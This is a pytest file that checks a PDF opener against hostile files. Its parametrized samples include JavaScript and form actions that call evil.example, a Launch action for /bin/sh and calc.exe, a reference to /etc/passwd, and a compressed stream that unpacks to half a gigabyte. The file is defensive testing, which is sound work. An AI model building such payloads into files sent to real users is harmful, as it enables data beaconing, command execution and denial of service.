"""PDF files made to run, to exhaust or to mislead."""

import zlib
from pathlib import Path

import pytest

from copilot.containment.openers import Openers
from ocr.errors import FileError
from ocr.sheet import Limits

BLANK = (200, 200)


def pdf(*objects: bytes, root: bytes = b"<< /Type /Catalog /Pages 2 0 R >>") -> bytes:
    """A file with the `root` as its first object and `objects` after it, all by the standard."""
    content, places = bytearray(b"%PDF-1.7\n"), []
    for number, inside in enumerate((root, *objects), 1):
        places.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, inside)
    start = len(content)
    content += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    content += b"".join(b"%010d 00000 n \n" % place for place in places)
    content += b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(places) + 1, start)
    return bytes(content)


def stream(inside: bytes, about: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(inside), about, inside)


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"


def tried(openers: Openers, tmp_path: Path, content: bytes) -> list[tuple[int, ...]]:
    """The pages, or none where the file is refused with a remedy; anything else is an error."""
    try:
        return opened(openers, tmp_path, content)
    except FileError as error:
        if not error.remedy:
            raise
        return []


def opened(openers: Openers, tmp_path: Path, content: bytes) -> list[tuple[int, ...]]:
    path = tmp_path / "file.pdf"
    path.write_bytes(content)
    return [sheet.image.shape for sheet in openers.sheets(path, Limits())]


def refused(openers: Openers, tmp_path: Path, content: bytes) -> FileError:
    with pytest.raises(FileError) as error:
        opened(openers, tmp_path, content)
    assert error.value.remedy
    return error.value


@pytest.mark.parametrize(
    "action",
    [
        b"/S /JavaScript /JS (while (true) {} app.launchURL\\('http://evil.example'\\);)",
        b"/S /Launch /F (/bin/sh) /Win << /F (calc.exe) >>",
        b"/S /URI /URI (http://evil.example/beacon)",
        b"/S /GoToE /F (file:///etc/passwd)",
        b"/S /SubmitForm /F (http://evil.example) /Fields []",
    ],
)
def test_actions_never_run(openers: Openers, tmp_path: Path, action: bytes) -> None:
    root = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << %s >> /AA << /O << %s >> >> >>" % (action, action)
    plain = opened(openers, tmp_path, pdf(PAGES, PAGE))
    assert opened(openers, tmp_path, pdf(PAGES, PAGE, root=root)) == plain


def test_thousands_of_pages_are_refused(openers: Openers, tmp_path: Path) -> None:
    kids = b" ".join(b"%d 0 R" % number for number in range(3, 5003))
    tree = b"<< /Type /Pages /Kids [%s] /Count 5000 >>" % kids
    assert "5000 页" in refused(openers, tmp_path, pdf(tree, *[PAGE] * 5000)).message


def test_a_tree_that_only_says_it_has_many_pages(openers: Openers, tmp_path: Path) -> None:
    tree = b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>"
    assert len(tried(openers, tmp_path, pdf(tree, PAGE))) <= Limits().pages


def test_a_tree_that_holds_itself_ends(openers: Openers, tmp_path: Path) -> None:
    tree = b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"
    assert len(tried(openers, tmp_path, pdf(tree, PAGE))) <= Limits().pages


@pytest.mark.parametrize(("before", "after"), [(b"[", b"]"), (b"<< /A ", b" >>")])
def test_deep_nesting_breaks_nothing(openers: Openers, tmp_path: Path, before: bytes, after: bytes) -> None:
    deep = before * 100_000 + b"null" + after * 100_000
    tried(openers, tmp_path, pdf(PAGES, PAGE, deep, root=b"<< /Type /Catalog /Pages 2 0 R /Deep 4 0 R >>"))
    assert opened(openers, tmp_path, pdf(PAGES, PAGE))


def test_a_stream_that_unpacks_to_half_a_gigabyte_ends(openers: Openers, tmp_path: Path) -> None:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(512)) + packer.flush()
    page = PAGE[:-2] + b"/Contents 4 0 R >>"
    content = pdf(PAGES, page, stream(packed, b"/Filter /FlateDecode"))
    assert len(content) < 2_000_000
    tried(openers, tmp_path, content)
    assert opened(openers, tmp_path, pdf(PAGES, PAGE))


@pytest.mark.parametrize("box", [b"0 0 1e9 1e9", b"0 0 0 0", b"0 0 1 1e7", b"-1e9 -1e9 1e9 1e9", b"0 0 nan inf"])
def test_a_page_of_absurd_size_stays_small(openers: Openers, tmp_path: Path, box: bytes) -> None:
    shapes = tried(openers, tmp_path, pdf(PAGES, b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] >>" % box))
    assert all(max(shape) <= Limits().side for shape in shapes)


def test_an_encrypted_file_is_told(openers: Openers, tmp_path: Path) -> None:
    from fpdf import FPDF

    locked = FPDF()
    locked.add_page()
    locked.set_encryption(owner_password="a", user_password="b")
    assert "密码" in refused(openers, tmp_path, bytes(locked.output())).message


def test_a_file_that_is_a_pdf_and_a_web_page_stays_paper(openers: Openers, tmp_path: Path) -> None:
    both = b"<html><script>alert(1)</script>\n" + pdf(PAGES, PAGE)
    assert len(tried(openers, tmp_path, both)) <= 1
